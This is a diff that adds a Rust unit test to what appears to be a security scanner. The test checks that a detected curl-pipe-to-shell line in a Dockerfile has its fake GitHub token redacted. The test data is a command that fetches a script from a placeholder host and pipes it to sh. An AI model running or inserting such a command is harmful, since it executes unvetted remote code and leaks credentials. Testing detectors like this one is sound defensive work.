@@ -152,3 +152,23 @@ fn framework_keys_debug_and_cursor_rules() {
     );
     assert!(h.is_empty(), "{h:?}");
 }
+
+#[test]
+fn quoted_lines_are_redacted() {
+    let tok = fake("ghp_", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8");
+    let line = format!("RUN curl -H \"Authorization: token {tok}\" https://x.example/i.sh | sh");
+    let (h, _) = hits(Some(languages::DOCKERFILE), "Dockerfile", &line);
+    let curl = h
+        .iter()
+        .find(|h| h.kind == HitKind::CurlPipeShell)
+        .expect("curl hit");
+    assert!(
+        !curl.note.contains(&tok) && curl.note.contains("ghp_"),
+        "{}",
+        curl.note
+    );
+    assert_eq!(
+        redact("plain words and x.example/i.sh"),
+        "plain words and x.example/i.sh"
+    );
+}
